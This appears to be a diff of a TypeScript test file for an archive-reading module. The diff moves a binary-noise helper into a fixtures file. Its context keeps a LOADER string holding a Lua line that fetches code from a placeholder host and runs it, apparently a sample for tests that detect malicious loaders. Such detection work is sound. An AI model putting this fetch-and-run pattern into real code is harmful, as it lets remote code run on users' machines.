@@ -15,6 +15,7 @@ import {
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
+import { noise } from './archiveFixtures.js';
 import { readFileChunks, ScratchBuffer, type FileReading } from './folderReader.js';
 import { readArchive } from './index.js';
 import { ReadingContext, resolveLimits } from './readingContext.js';
@@ -34,18 +35,6 @@ function folder(files: Record<string, Uint8Array | string>): string {
     writeFileSync(join(root, path), data);
   }
   return root;
-}
-
-/** Binary bytes no text run is made of (NUL, control bytes, ≥ 0x80), from a fixed seed. */
-function noise(length: number, seed: number): Buffer {
-  const out = Buffer.allocUnsafe(length);
-  let x = seed;
-  for (let i = 0; i < length; i++) {
-    x = (x * 1103515245 + 12345) >>> 0;
-    const v = x >>> 24;
-    out[i] = v >= 0x80 ? v : v & 0x07;
-  }
-  return out;
 }
 
 const LOADER = 'http.Fetch("https://x.invalid/p", function(b) RunString(b) end)\n';
